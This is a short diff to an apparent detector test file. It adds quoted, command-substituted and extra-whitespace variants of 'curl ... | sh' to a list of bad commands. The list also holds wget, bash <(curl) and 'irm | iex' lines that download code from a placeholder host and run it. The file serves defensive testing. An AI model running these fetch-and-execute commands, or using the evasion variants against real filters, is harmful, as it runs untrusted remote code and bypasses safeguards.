@@ -194,6 +194,9 @@ it.each<[rule: string, bad: string[], good: string[]]>([
     [
       'wget -qO- https://x.test | sudo -E bash -',
       'curl https://x.test \\\n  | sh',
+      '"curl" https://x.test | sh',
+      '$(which curl) https://x.test | sh',
+      'curl        https://x.test | sh',
       'bash <(curl -s https://x.test)',
       'sh -c "$(curl -fsSL https://x.test)"',
       'irm https://x.test | iex',
